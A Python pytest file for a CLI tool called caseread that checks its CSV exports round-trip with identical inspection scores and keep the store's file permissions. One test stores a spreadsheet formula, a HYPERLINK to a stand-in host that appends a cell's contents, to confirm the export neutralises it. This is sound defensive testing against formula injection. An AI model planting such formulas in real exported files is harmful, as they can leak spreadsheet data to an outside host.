"""caseread's own exports: they agree with the scores, and import back unchanged.

The demo inspection is exported as CSV, imported into a fresh store with `case import`
and `answers import`, and scores the same to the last bit.
"""

from __future__ import annotations

import csv
import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from caseread.cli import cli

demo_write = pytest.importorskip("caseread.demo.write")

from tests.conftest import copy_demo  # noqa: E402


def run(*args: str, env: dict[str, str] | None = None) -> Result:
    return CliRunner().invoke(cli, list(args), env=env)


def ok(*args: str) -> str:
    result = run(*args)
    assert result.exit_code == 0, (args, result.output, result.stderr)
    return result.stdout


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory,
         demo_template: Path) -> tuple[Path, str, Path]:
    """The demo store, its inspection and its CSV export."""
    os.environ.setdefault("CASEREAD_CONFIG_DIR", str(tmp_path_factory.mktemp("config")))
    path = copy_demo(demo_template, tmp_path_factory.mktemp("demo") / "store")
    out = tmp_path_factory.mktemp("export") / "out"
    ok("--store", str(path), "export", str(out), "--format", "csv")
    return path, demo_write.INSPECTION_ID, out


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def scores(store: Path, iid: str) -> dict[str, Any]:
    return dict(json.loads(ok("--store", str(store), "scores", "--inspection", iid,
                              "--format", "json")))


def test_the_demo_round_trips_with_identical_scores(demo: tuple[Path, str, Path],
                                                    tmp_path: Path) -> None:
    store, iid, out = demo
    (inspection,) = [r for r in rows(out / "inspections.csv") if r["inspection_id"] == iid]
    fresh = str(tmp_path / "fresh")
    ok("--store", fresh, "init")
    ok("--store", fresh, "inspection", "add", iid, "--area", inspection["area"],
       "--date", inspection["date"])
    cases = ok("--store", fresh, "case", "import", str(out / "cases.csv"), "--inspection", iid)
    assert f"imported {len(rows(out / 'cases.csv'))} cases" in cases
    answers = ok("--store", fresh, "answers", "import", str(out / "answers_current.csv"),
                 "--inspection", iid)
    assert answers.startswith(f"imported {len(rows(out / 'answers_current.csv'))} answers")
    before, after = scores(store, iid), scores(Path(fresh), iid)
    assert before == after
    assert before["outcomes"]  # a real comparison, not two empty lists
    # and the same again: nothing changes, every case unchanged
    again = ok("--store", fresh, "case", "import", str(out / "cases.csv"), "--inspection", iid)
    assert again.splitlines()[-1].endswith("unchanged (0 details saved)")


def test_an_export_is_refused_for_another_inspection(demo: tuple[Path, str, Path],
                                                     tmp_path: Path) -> None:
    _, iid, out = demo
    fresh = str(tmp_path / "fresh")
    ok("--store", fresh, "init")
    ok("--store", fresh, "inspection", "add", "OTHER", "--area", "X", "--date", "2013-01")
    result = run("--store", fresh, "case", "import", str(out / "cases.csv"),
                 "--inspection", "OTHER")
    assert result.exit_code == 1
    assert (f"cases.csv, row 2, column inspection_id: this row is of inspection {iid!r}, "
            "not 'OTHER'") in result.stderr
    assert "nothing imported" in result.stderr


def test_exported_answers_say_whether_they_apply_as_the_scores_count(
        demo: tuple[Path, str, Path]) -> None:
    store, iid, out = demo
    answers = [r for r in rows(out / "answers_current.csv") if r["inspection_id"] == iid]
    assert {"applies", "scoring"} <= set(answers[0])
    questions = {r["question_id"]: r for r in rows(out / "question_scores.csv")
                 if r["inspection_id"] == iid}
    for qid, q in questions.items():
        mine = [a for a in answers if a["question_id"] == qid and a["applies"] == "true"]
        assert sum(a["scoring"] == "sufficient" for a in mine) == int(q["sufficient"]), qid
        assert sum(a["scoring"] == "insufficient" for a in mine) == int(q["insufficient"]), qid
    assert (out / "answers_scored.csv").exists()


def test_answers_that_no_longer_apply_are_exported_as_such(tmp_path: Path) -> None:
    """The issue's case: three `no` answers, then details under which they do not apply."""
    data = Path(__file__).parent / "data"
    store = str(tmp_path / "store")
    ok("--store", store, "init")
    ok("--store", store, "inspection", "add", "T1", "--area", "X", "--date", "2013-03")
    ok("--store", store, "case", "import", str(data / "cases.csv"))
    qids = ("4.1.14", "4.1.15", "2.2.11")
    for qid in qids:
        ok("--store", store, "answer", "C001", qid, "n")
    changed = tmp_path / "changed.csv"
    changed.write_text("case_id,case_ref,case_type,gender,offence,rosh\n"
                       "C001,REF-001,community_order,male,abh,low\n", encoding="utf-8")
    ok("--store", store, "case", "import", str(changed))
    ok("--store", store, "export", str(tmp_path / "out"), "--format", "csv")
    mine = [a for a in rows(tmp_path / "out" / "answers_current.csv")
            if a["case_id"] == "C001" and a["question_id"] in qids]
    assert [(a["answer"], a["applies"]) for a in mine] == [("no", "false")] * 3
    counted = [a for a in mine if a["applies"] == "true" and a["answer"] == "no"]
    scored = {r["question_id"]: r for r in rows(tmp_path / "out" / "question_scores.csv")}
    assert len(counted) == sum(int(scored[q]["insufficient"]) for q in qids) == 0
    assert all(int(scored[q]["not_applicable"]) == 1 for q in qids)


def test_export_files_follow_the_store_mode(demo: tuple[Path, str, Path]) -> None:
    store, _, out = demo
    store_mode = stat.S_IMODE(os.stat(store).st_mode) & 0o666
    for path in out.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == store_mode, path
        assert path.stat().st_gid == os.stat(store).st_gid
    assert store_mode & 0o007 == 0  # the store keeps others out, so do its exports


def test_formulas_in_notes_are_inert_in_csv_and_import_back(tmp_path: Path) -> None:
    data = Path(__file__).parent / "data"
    store = str(tmp_path / "store")
    ok("--store", store, "init")
    ok("--store", store, "inspection", "add", "T1", "--area", "X", "--date", "2013-03")
    ok("--store", store, "case", "import", str(data / "cases.csv"))
    note = '=HYPERLINK("http://x.example/?"&A1,"open")'
    ok("--store", store, "answer", "C001", "1.1.02", "y", "--note", note)
    ok("--store", store, "answer", "C001", "1.1.03", "n", "--note", "-2+3 months late")
    ok("--store", store, "export", str(tmp_path / "out"), "--format", "csv")
    exported = {a["question_id"]: a["note"]
                for a in rows(tmp_path / "out" / "answers_current.csv")}
    assert exported == {"1.1.02": "'" + note, "1.1.03": "'-2+3 months late"}
    fresh = str(tmp_path / "fresh")
    ok("--store", fresh, "init")
    ok("--store", fresh, "inspection", "add", "T1", "--area", "X", "--date", "2013-03")
    ok("--store", fresh, "case", "import", str(tmp_path / "out" / "cases.csv"))
    ok("--store", fresh, "answers", "import", str(tmp_path / "out" / "answers_current.csv"))
    back = json.loads(ok("--store", fresh, "sql", "SELECT question_id, note FROM "
                         "answers_current ORDER BY 1", "--format", "json"))
    assert back == [{"question_id": "1.1.02", "note": note},
                    {"question_id": "1.1.03", "note": "-2+3 months late"}]


def test_report_files_follow_the_store_mode(tmp_path: Path) -> None:
    data = Path(__file__).parent / "data"
    store = tmp_path / "store"
    ok("--store", str(store), "init")
    ok("--store", str(store), "inspection", "add", "T1", "--area", "X", "--date", "2013-03")
    ok("--store", str(store), "case", "import", str(data / "cases.csv"))
    result = run("--store", str(store), "report", "--format", "md", str(tmp_path / "r.md"))
    assert result.exit_code == 0, result.output
    mode = stat.S_IMODE((tmp_path / "r.md").stat().st_mode)
    assert mode == stat.S_IMODE(store.stat().st_mode) & 0o666 and mode & 0o007 == 0
    assert "as the store" in result.stderr


def view_scores(store: Path, sql: str) -> list[dict[str, Any]]:
    return list(json.loads(ok("--store", str(store), "sql", sql, "--format", "json")))


@pytest.mark.parametrize("method", ["questions", "criteria"])
def test_cli_scores_and_the_views_agree_to_the_last_bit(demo: tuple[Path, str, Path],
                                                        method: str) -> None:
    """docs/store.md: the CLI's scores are the views' scores, bit for bit (JSON floats
    print every digit of a double, so equal text is equal doubles)."""
    store, iid, _ = demo
    cli = json.loads(ok("--store", str(store), "scores", "--inspection", iid, "--method", method,
                        "--format", "json"))
    where = f"WHERE inspection_id = '{iid}'"
    views = {
        "outcomes": {r["outcome"]: r["score"] for r in view_scores(
            store, f"SELECT outcome, score FROM outcome_scores {where} AND method = '{method}'")},
        "criteria": {r["criterion_id"]: r["score"] for r in view_scores(
            store, f"SELECT criterion_id, score FROM criterion_scores {where}")},
        "themes": {r["theme"]: r["score"] for r in view_scores(
            store, f"SELECT theme, score FROM theme_scores {where}")},
        "questions": {r["question_id"]: r["score"] for r in view_scores(
            store, f"SELECT question_id, score FROM question_scores {where}")},
    }
    for level, scores in views.items():
        key = "id" if level == "questions" else "code"
        mine = {r[key]: r["score"] for r in cli[level]}
        assert mine == scores, level
    assert 4 in views["themes"] and views["themes"][4] is None  # one rule: every theme


def test_breakdowns_use_labels_in_the_frameworks_order(demo: tuple[Path, str, Path]) -> None:
    store, iid, _ = demo
    table = ok("--store", str(store), "scores", "--inspection", iid, "--by", "rosh")
    groups = [line.split("  ")[0] for line in table.split("Outcomes:")[1].split("Criteria:")[0]
              .splitlines()[3:] if line.strip()]
    labels = list(dict.fromkeys(groups))
    assert labels == ["Low", "Medium", "High", "Very high"]
    data = json.loads(ok("--store", str(store), "scores", "--inspection", iid, "--by", "rosh",
                         "--format", "json"))
    assert list(dict.fromkeys(r["group"] for r in data["outcomes"])) == [
        "low", "medium", "high", "very_high"]
    assert {r["group"] for r in data["themes"] if r["code"] == 4} == {
        "low", "medium", "high", "very_high"}
